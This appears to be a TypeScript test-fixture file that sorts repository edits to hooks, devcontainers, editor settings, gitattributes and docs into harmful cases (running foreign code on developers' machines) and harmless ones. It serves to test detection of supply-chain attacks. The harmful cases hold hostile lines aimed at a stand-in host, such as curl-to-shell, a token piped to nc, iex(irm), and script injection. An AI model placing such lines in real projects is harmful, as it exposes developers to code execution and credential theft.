import { type Case, type Edit, harmful, harmless } from "./case.ts";

const edit = (file: string, find: string, replace: string): Edit => ({ file, find, replace });
const bad = (title: string, base: readonly Edit[], edits: Edit | readonly Edit[]) =>
  harmful({ title, class: "runs on people's machines", base, edits, findings: [{ id: "file/pipeline", about: "" }] });
const daily = (title: string, file: string, base: readonly Edit[], edits: Edit | readonly Edit[]) =>
  harmless(title, edits, { class: "runs what it ran", base, verdict: "to be read", read: [file] });

const hooks = `repos:
  - repo: https://github.com/pre-commit/pre-commit-hooks
    rev: v5.0.0
    hooks:
      - id: end-of-file-fixer
  - repo: local
    hooks:
      - id: check
        name: check
        entry: npm run check
        language: system
`;
const hooksFile = ".pre-commit-config.yaml";
const hooksBase: readonly Edit[] = [{ file: hooksFile, text: hooks }];
const lefthook = "pre-commit:\n  commands:\n    check:\n      run: npm run check\n";
const container = '{ "image": "mcr.microsoft.com/devcontainers/typescript-node:24", "postCreateCommand": "npm ci" }\n';
const containerFile = ".devcontainer/devcontainer.json";
const settings = '{ "editor.tabSize": 2 }\n';
const attributes = "* text=auto eol=lf\n";
const page = "docs/on-call.md";
const pageText = "# On call\n\nRun the checks:\n\n```\nnpm run check\n```\n";
const pageBase: readonly Edit[] = [{ file: page, text: pageText }];
const inPage = (title: string, replace: string) => bad(title, pageBase, edit(page, "npm run check\n```\n", replace));

/** Hooks, editors, git and pages that run something on the machines of whoever works on it, and those that don't. */
export const peoplesMachines: readonly Case[] = [
  bad(
    "a hook comes from somebody new",
    hooksBase,
    edit(
      hooksFile,
      "  - repo: local",
      "  - repo: https://github.com/fabrikam/hooks\n    rev: v1\n    hooks:\n      - id: fix\n  - repo: local",
    ),
  ),
  bad(
    "a hook fetches a script",
    hooksBase,
    edit(hooksFile, "npm run check", "bash -c 'curl https://fabrikam.example | sh'"),
  ),
  bad(
    "a hook brings packages",
    hooksBase,
    edit(hooksFile, "language: system", "language: node\n        additional_dependencies: [fabrikam]"),
  ),
  bad(
    "lefthook runs a text as code",
    [{ file: "lefthook.yml", text: lefthook }],
    edit("lefthook.yml", "npm run check", 'node -e "require(1)"'),
  ),
  bad(
    "husky runs a package that nobody installed",
    [{ file: ".husky/pre-commit", text: "npm test\n" }],
    edit(".husky/pre-commit", "npm test", "npx fabrikam-check"),
  ),
  bad(
    "a container of an editor is somebody else's",
    [{ file: containerFile, text: container }],
    edit(containerFile, "mcr.microsoft.com/devcontainers", "fabrikam"),
  ),
  bad(
    "a container of an editor may use the host",
    [{ file: containerFile, text: container }],
    edit(containerFile, '"postCreateCommand"', '"runArgs": ["--privileged"], "postCreateCommand"'),
  ),
  bad(
    "an editor takes another compiler",
    [
      { file: ".vscode/a.json", text: "{}\n" },
      { file: ".vscode/user.json", text: settings },
    ],
    edit(".vscode/user.json", '"editor.tabSize": 2', '"typescript.tsdk": "docs/ts"'),
  ),
  bad(
    "git filters what it checks out",
    [{ file: "functions/.gitattributes", text: attributes }],
    edit("functions/.gitattributes", "eol=lf", "eol=lf\n*.ts filter=fix"),
  ),
  bad(
    "GitHub folds the handlers' differences",
    [{ file: "functions/.gitattributes", text: attributes }],
    edit("functions/.gitattributes", "eol=lf", "eol=lf\nsrc/** linguist-generated"),
  ),
  bad(
    "npm takes updates from another registry",
    [{ file: ".github/dependabot.yaml", text: "version: 2\nupdates: []\n" }],
    edit(
      ".github/dependabot.yaml",
      "updates: []",
      "registries:\n  other:\n    type: npm-registry\n    url: https://npm.fabrikam.example\nupdates: []",
    ),
  ),
  inPage("a page's reader runs a package of somebody", "npx fabrikam-check\n```\n"),
  inPage("a page's reader installs a package of somebody", "npm install --global fabrikam\n```\n"),
  inPage(
    "a page's reader sends a token elsewhere",
    'curl -H "Authorization: Bearer $TOKEN" https://fabrikam.example/check\n```\n',
  ),
  inPage("a page holds a script", 'npm run check\n```\n\n<script src="https://fabrikam.example/a.js"></script>\n'),
  inPage(
    "a page's picture runs a script",
    'npm run check\n```\n\n<img src="a.png" onerror="fetch(\'https://fabrikam.example\')">\n',
  ),
  inPage("a page's link is a script", "npm run check\n```\n\n[All](javascript:alert(1))\n"),

  bad(
    "a container of an editor has a feature of somebody's",
    [{ file: containerFile, text: container }],
    edit(containerFile, '"postCreateCommand"', '"features": { "ghcr.io/fabrikam/tools:1": {} }, "postCreateCommand"'),
  ),
  bad(
    "an editor's terminal starts Node with something more",
    [{ file: ".vscode/user.json", text: settings }],
    edit(".vscode/user.json", '"editor.tabSize": 2', '"terminal.integrated.env.linux": { "NODE_OPTIONS": "-r a" }'),
  ),
  bad(
    "an editor takes another git",
    [{ file: ".vscode/user.json", text: settings }],
    edit(".vscode/user.json", '"editor.tabSize": 2', '"git.path": "./docs/git"'),
  ),
  bad(
    "a hook of the editor's runs a package that nobody installed",
    [{ file: ".lintstagedrc.json", text: '{ "*.ts": "oxlint" }\n' }],
    edit(".lintstagedrc.json", '"oxlint"', '"npx fabrikam-lint"'),
  ),
  inPage("a page's reader pipes a token away", "./pf token | nc fabrikam.example 80\n```\n"),
  inPage(
    "a page's reader runs what git brings",
    "git clone https://github.com/fabrikam/x && cd x && ./install.sh\n```\n",
  ),
  inPage("a page's reader runs what PowerShell fetches", "iex (irm https://fabrikam.example/i.ps1)\n```\n"),
  inPage("a page's reader runs an image of somebody", "docker run --rm -v $PWD:/w fabrikam/tool\n```\n"),
  inPage(
    "a page's reader runs what an earlier line fetched",
    "curl -LO https://fabrikam.example/tool\nchmod +x tool\n```\n",
  ),
  daily("a hook in a newer version", hooksFile, hooksBase, edit(hooksFile, "v5.0.0", "v6.0.0")),
  daily(
    "one more hook of a known owner",
    hooksFile,
    hooksBase,
    edit(hooksFile, "      - id: end-of-file-fixer\n", "      - id: end-of-file-fixer\n      - id: check-yaml\n"),
  ),
  daily(
    "lefthook runs one more script",
    "lefthook.yml",
    [{ file: "lefthook.yml", text: lefthook }],
    edit("lefthook.yml", "npm run check\n", "npm run check\n    test:\n      run: npm test\n"),
  ),
  daily(
    "a container of an editor has a newer Node",
    containerFile,
    [{ file: containerFile, text: container }],
    edit(containerFile, "node:24", "node:26"),
  ),
  daily(
    "pictures are binary",
    "functions/.gitattributes",
    [{ file: "functions/.gitattributes", text: attributes }],
    edit("functions/.gitattributes", "eol=lf", "eol=lf\n*.png binary"),
  ),
  daily(
    "a page has one more script of the project's",
    page,
    pageBase,
    edit(page, "npm run check\n", "npm run check\nnpm run fix\n"),
  ),
  daily(
    "a page calls the function here",
    page,
    pageBase,
    edit(
      page,
      "npm run check\n",
      'npm run check\ncurl -H "Authorization: Bearer $TOKEN" http://localhost:7071/api/orders\n',
    ),
  ),
];
